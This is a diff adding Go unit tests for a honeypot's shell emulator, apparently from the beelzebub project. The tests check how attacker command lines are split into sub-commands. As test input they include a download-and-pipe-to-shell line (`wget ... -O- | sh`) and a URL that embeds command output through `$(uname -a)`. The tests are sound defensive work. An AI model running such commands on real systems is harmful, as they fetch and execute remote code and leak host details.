@@ -0,0 +1,69 @@
+package session
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/beelzebub-labs/beelzebub/v3/internal/shell"
+	"github.com/beelzebub-labs/beelzebub/v3/internal/tracer"
+	"github.com/stretchr/testify/assert"
+)
+
+// dispatchKnown matches "uname -a" and the commands starting with "wget".
+func dispatchKnown(command string) (string, string, bool) {
+	switch {
+	case command == "uname -a":
+		return "Linux ubuntu", "uname", true
+	case len(command) >= 4 && command[:4] == "wget":
+		return "saved", "wget", true
+	}
+	return "command not found", "not_found", false
+}
+
+func TestRunCommandLine(t *testing.T) {
+	commandLine := RunCommandLine(`uname -a; wget "http://x/y.sh" -O- | sh`, dispatchKnown)
+
+	assert.True(t, commandLine.Matched)
+	assert.Equal(t, "Linux ubuntu\ncommand not found", commandLine.Output)
+	assert.Equal(t, "wget", commandLine.Handler)
+	assert.Equal(t, []tracer.SubCommand{
+		{Command: "uname -a", CommandOutput: "Linux ubuntu", Handler: "uname"},
+		{Command: "wget http://x/y.sh -O-", CommandOutput: "saved", Handler: "wget"},
+		{Command: "sh", CommandOutput: "command not found", Handler: "not_found"},
+	}, commandLine.SubCommands)
+}
+
+func TestRunCommandLine_Operators(t *testing.T) {
+	commandLine := RunCommandLine("cd /tmp && wget http://x/y.sh || uname -a", dispatchKnown)
+
+	assert.True(t, commandLine.Matched)
+	assert.Equal(t, "uname", commandLine.Handler)
+	assert.Equal(t, "command not found\nLinux ubuntu", commandLine.Output)
+	assert.Equal(t, []string{"cd /tmp", "uname -a"}, []string{commandLine.SubCommands[0].Command, commandLine.SubCommands[1].Command})
+
+	commandLine = RunCommandLine("cd /tmp && wget http://x/y.sh", dispatchKnown)
+
+	assert.False(t, commandLine.Matched)
+	assert.Equal(t, "not_found", commandLine.Handler)
+	assert.Len(t, commandLine.SubCommands, 1)
+
+	commandLine = RunCommandLine("wget http://x/$(uname -a)", dispatchKnown)
+
+	assert.True(t, commandLine.Matched)
+	assert.Equal(t, "saved", commandLine.Output)
+	assert.Equal(t, []string{"uname -a", "wget http://x/Linux ubuntu"}, []string{commandLine.SubCommands[0].Command, commandLine.SubCommands[1].Command})
+}
+
+func TestRunCommandLine_DispatchesWholeLine(t *testing.T) {
+	// A line with more than shell.MaxSubCommands commands is dispatched once, not once per command.
+	for _, line := range []string{"", `wget "http://x`, "*1\r\n$4\r\nPING\r\n|", strings.Repeat("wget x;", shell.MaxSubCommands+1)} {
+		var dispatched []string
+		commandLine := RunCommandLine(line, func(command string) (string, string, bool) {
+			dispatched = append(dispatched, command)
+			return "", "not_found", false
+		})
+
+		assert.Equal(t, []string{line}, dispatched)
+		assert.Nil(t, commandLine.SubCommands)
+	}
+}